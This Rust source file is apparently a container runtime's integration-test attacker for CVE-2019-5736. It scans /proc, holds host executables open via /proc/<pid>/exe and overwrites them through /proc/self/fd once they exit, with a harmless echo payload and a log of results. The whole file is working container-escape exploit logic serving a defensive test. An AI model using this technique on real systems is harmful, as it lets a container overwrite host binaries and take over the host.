//! `/checker --grab-exe <dir>`: the CVE-2019-5736 attacker (integration/tests/cve_exe.rs).
//!
//! Forever: scan /proc for processes whose executable is not one of the container's
//! own (the checker, /bin/busybox), open their `/proc/<pid>/exe` read-only and hold it;
//! once such a process has exited (or exec'd something else), reopen the held file for
//! writing through `/proc/self/fd/N` with O_TRUNC and write to it (retrying while the
//! kernel says ETXTBSY, i.e. another process still runs it). Each step is appended to
//! `<dir>/report`: `held <pid> <exe link>`, `direct <pid> <error>` (opening
//! `/proc/<pid>/exe` itself for writing while it runs), then `wrote <pid>` or
//! `refused <pid> <error>`.

use std::collections::HashSet;
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

/// How long a reopen keeps being retried while the file is busy.
const RETRY: Duration = Duration::from_secs(5);

struct Held {
    pid: u32,
    start: String,
    file: File,
    gone_since: Option<Instant>,
}

/// Runs the attack loop; never returns.
pub fn run(dir: &str) -> ! {
    let mut report = OpenOptions::new()
        .create(true)
        .append(true)
        .open(format!("{dir}/report"))
        .expect("open the report");
    let ours: HashSet<(u64, u64)> = ["/proc/self/exe", "/bin/busybox"]
        .iter()
        .filter_map(|p| std::fs::metadata(p).ok())
        .map(|m| (m.dev(), m.ino()))
        .collect();
    let me = std::process::id();
    let mut seen: HashSet<(u32, String)> = HashSet::new();
    let mut held: Vec<Held> = Vec::new();
    loop {
        for pid in pids() {
            if pid == me {
                continue;
            }
            let Some(start) = start_time(pid) else {
                continue;
            };
            if !seen.insert((pid, start.clone())) {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            let Ok(file) = File::open(&exe) else { continue };
            let Ok(m) = file.metadata() else { continue };
            if ours.contains(&(m.dev(), m.ino())) {
                continue;
            }
            let link = std::fs::read_link(&exe).unwrap_or_default();
            let _ = writeln!(report, "held {pid} {}", link.display());
            // The direct way, while it runs: ETXTBSY on any binary, EROFS on the
            // protected one. Opened without O_TRUNC, so a success changes nothing.
            match OpenOptions::new().write(true).open(&exe) {
                Ok(_) => drop(writeln!(report, "wrote {pid} (opened {exe} for writing)")),
                Err(e) => drop(writeln!(report, "direct {pid} {e}")),
            }
            held.push(Held {
                pid,
                start,
                file,
                gone_since: None,
            });
        }
        held.retain_mut(|h| !attempt(h, &mut report));
    }
}

/// One step for a held file: true when it is done with (written or refused).
fn attempt(h: &mut Held, report: &mut File) -> bool {
    if h.gone_since.is_none() {
        if running_same(h.pid, &h.start, &h.file) {
            return false;
        }
        h.gone_since = Some(Instant::now());
    }
    let path = format!("/proc/self/fd/{}", h.file.as_raw_fd());
    let res = OpenOptions::new()
        .write(true)
        .truncate(true)
        .open(&path)
        .and_then(|mut f| f.write_all(b"#!/bin/sh\necho overwritten by a container\n"));
    match res {
        Ok(()) => {
            let _ = writeln!(report, "wrote {}", h.pid);
            true
        }
        Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => {
            if h.gone_since.is_some_and(|t| t.elapsed() > RETRY) {
                let _ = writeln!(report, "refused {} {e} (busy for {RETRY:?})", h.pid);
                return true;
            }
            false
        }
        Err(e) => {
            let _ = writeln!(report, "refused {} {e}", h.pid);
            true
        }
    }
}

/// True while `pid` is the same live process and still runs the held file.
fn running_same(pid: u32, start: &str, file: &File) -> bool {
    let stat = match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Ok(s) => s,
        Err(_) => return false,
    };
    let after = stat.rsplit_once(')').map(|(_, r)| r).unwrap_or("");
    let fields: Vec<&str> = after.split_whitespace().collect();
    if fields.first() == Some(&"Z") || fields.get(19).copied() != Some(start) {
        return false;
    }
    let (Ok(now), Ok(held)) = (
        std::fs::metadata(format!("/proc/{pid}/exe")),
        file.metadata(),
    ) else {
        return false;
    };
    (now.dev(), now.ino()) == (held.dev(), held.ino())
}

fn pids() -> Vec<u32> {
    let Ok(rd) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    rd.flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .collect()
}

/// Field 22 of /proc/<pid>/stat (start time), which tells a reused pid apart.
fn start_time(pid: u32) -> Option<String> {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let after = stat.rsplit_once(')')?.1;
    after.split_whitespace().nth(19).map(str::to_string)
}
